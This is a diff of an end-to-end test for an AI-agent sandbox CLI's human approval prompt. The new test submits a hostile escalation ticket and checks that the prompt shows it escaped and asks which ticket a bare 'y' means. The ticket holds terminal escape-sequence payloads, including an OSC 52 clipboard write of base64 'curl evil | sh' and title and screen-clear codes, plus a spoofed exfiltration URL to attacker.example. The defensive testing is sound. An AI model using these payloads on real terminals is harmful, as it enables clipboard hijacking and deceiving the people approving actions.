@@ -1,13 +1,24 @@
 // `ironcurtain demo` in a pseudo-terminal (util-linux `script`), answered by this test as a person would: the real
 // CLI starts the real stack (nats-server, PDP, gateway with the filesystem and git MCP servers, audit-writer,
 // escalation-router, egress, orchestrator) and the scripted model drives real Code Mode executions through it.
+// The last test opens a second, hostile ticket on the demo's session through the real router while the demo asks
+// about its own: the y/N prompt must show it inert and whole, and a bare `y` must ask which ticket it means.
 import { execFileSync } from 'node:child_process';
 import { existsSync } from 'node:fs';
+import { randomUUID } from 'node:crypto';
 import { mkdtemp, readdir, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
-import { cliEnvironment, startCliInTerminal, type TerminalCliProcess } from './stack-process.js';
+import { connectBus, requestUntilSettled } from '@ironcurtain/bus';
+import { EscalationOpen } from '@ironcurtain/proto-schemas';
+import {
+  cliEnvironment,
+  readStackFile,
+  startCliInTerminal,
+  type TerminalCliProcess,
+} from './stack-process.js';
+import { renderInTerminal } from '@ironcurtain/testing';
 
 describe('ironcurtain demo', () => {
   const homes: string[] = [];
@@ -29,7 +40,7 @@ describe('ironcurtain demo', () => {
     return { home, run };
   };
   const waitForQuestion = (run: TerminalCliProcess, count: number) =>
-    run.waitForCount(/approve\? \[y\/N\]/, count);
+    run.waitForCount(/approve [0-9a-f]{6}\? \[y\/N\]/, count);
 
   it('allows sandbox work, denies the SSH key, and pushes only after the person says yes', async () => {
     const { home, run } = await startDemo();
@@ -37,14 +48,14 @@ describe('ironcurtain demo', () => {
     expect(beforeAnswer).toContain('filesystem.write_file: allowed');
     expect(beforeAnswer).toMatch(/filesystem\.read_text_file: DENIED: /);
     expect(beforeAnswer).toContain('git.git_commit: allowed');
-    expect(beforeAnswer).toMatch(/approval needed \[esc_[0-9a-f]+\]: git\.git_remote/);
+    expect(beforeAnswer).toMatch(/approval needed \[[0-9a-f]{6}\]: git\.git_remote/);
     run.type('y');
     await waitForQuestion(run, 2);
-    expect(run.output()).toMatch(/approval needed \[esc_[0-9a-f]+\]: git\.git_push/);
+    expect(run.output()).toMatch(/approval needed \[[0-9a-f]{6}\]: git\.git_push/);
     run.type('y');
     expect((await run.exited).code).toBe(0);
     const output = run.output();
-    expect(output.match(/escalation esc_[0-9a-f]+: approved by /g)).toHaveLength(2);
+    expect(output.match(/escalation esc_[0-9a-f]+ \[[0-9a-f]{6}\]: approved by /g)).toHaveLength(2);
     expect(output).toContain('git.git_remote: allowed (approved by');
     // Approved and run: the push itself fails, as this machine has no route to github.com.
     expect(output).toMatch(/git\.git_push\s+allow\s+escalate-git-remote-operations/);
@@ -67,9 +78,80 @@ describe('ironcurtain demo', () => {
     run.type('n');
     expect((await run.exited).code).toBe(0);
     const output = run.output();
-    expect(output).toMatch(/escalation esc_[0-9a-f]+: denied by /);
+    expect(output).toMatch(/escalation esc_[0-9a-f]+ \[[0-9a-f]{6}\]: denied by /);
     expect(output).toMatch(/ESCALATION DENIED: denied by /);
     expect(output).toMatch(/git\.git_push\s+deny\s+escalation-denied/);
     expect(output).toMatch(/hash chain verified: \d+ records/);
   }, 150_000);
+
+  it('shows a hostile ticket inert and whole, and asks which ticket a bare y means', async () => {
+    const { home, run } = await startDemo();
+    const sessionId = /session (\S+) — sandbox:/.exec(run.output())?.[1] ?? '';
+    const stack = await readStackFile(join(home, '.ironcurtain'));
+    const bus = await connectBus({
+      url: stack?.natsUrl ?? '',
+      name: 'demo-test',
+      user: stack?.cliCredentials?.user ?? '',
+      password: stack?.cliCredentials?.password ?? '',
+    });
+    const hostileUrl = 'https://collect.attacker.example/c?d=\u202etxt.exe\u200b';
+    const padding = '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07'.repeat(100);
+    const hostile = requestUntilSettled(
+      bus,
+      EscalationOpen,
+      {
+        callId: randomUUID(),
+        sessionId,
+        serverName: 'fetch',
+        toolName: 'http_fetch',
+        canonicalArguments: {
+          headers: { a: padding, b: padding, c: padding, d: padding, e: padding },
+          url: hostileUrl,
+        },
+        argsHash: 'e'.repeat(64),
+        reason: 'Asked by \x1b]0;pwned\x07 a \u009b2J hostile test',
+        rule: 'escalate-fetch-other-sites',
+        escalatedRoles: ['fetch-url'],
+        argumentRoles: { url: ['fetch-url'], headers: ['none'] },
+        waitSeconds: 5,
+      },
+      { isSettled: (reply) => reply.status !== 'pending', attemptTimeoutMs: 8000, deadlineMs: 120_000 },
+    );
+    try {
+      await run.waitForCount(/2 approvals are waiting: answer each with its code \(y CODE or n CODE\)/, 1);
+      run.type('y');
+      await run.waitForCount(
+        /2 approvals are waiting: [0-9a-f]{6} \(git\.git_remote\), [0-9a-f]{6} \(fetch\.http_fetch\)\. Say which: y CODE or n CODE/,
+        1,
+      );
+      const codes = [...run.output().matchAll(/approval needed \[([0-9a-f]{6})\]: (\S+) /g)];
+      const hostileCode = codes.find((match) => match[2] === 'fetch.http_fetch')?.[1] ?? '';
+      const remoteCode = codes.find((match) => match[2] === 'git.git_remote')?.[1] ?? '';
+      run.type(`n ${hostileCode}`);
+      expect(await hostile).toMatchObject({ status: 'denied' });
+      run.type(`y ${remoteCode}`);
+      await waitForQuestion(run, 3);
+      run.type('y');
+      expect((await run.exited).code).toBe(0);
+    } catch (error) {
+      throw new Error(`${(error as Error).message}\n--- output so far ---\n${run.output()}`, {
+        cause: error,
+      });
+    } finally {
+      await bus.close();
+    }
+    const screen = await renderInTerminal(run.outputBytes(), { cols: 200, rows: 40 });
+    expect(screen.effects).toEqual([]);
+    expect(screen.scrollsNormally).toBe(true);
+    const shown = screen.lines.join('\n');
+    expect(shown).toContain(
+      '    url [fetch-url, escalated]: "https://collect.attacker.example/c?d=\\u202etxt.exe\\u200b"',
+    );
+    expect(shown).toContain(
+      '    reason: Asked by \\x1b]0;pwned\\x07 a \\x9b2J hostile test (rule escalate-fetch-other-sites)',
+    );
+    expect(shown).toMatch(/ {4}headers \[none\]: \{"a":"\\u001b\]52;c;.*… \(\d+ more characters\)/);
+    expect(run.output()).toMatch(/escalation esc_[0-9a-f]+ \[[0-9a-f]{6}\]: denied by /);
+    expect(run.output().match(/escalation esc_[0-9a-f]+ \[[0-9a-f]{6}\]: approved by /g)).toHaveLength(2);
+  }, 180_000);
 });
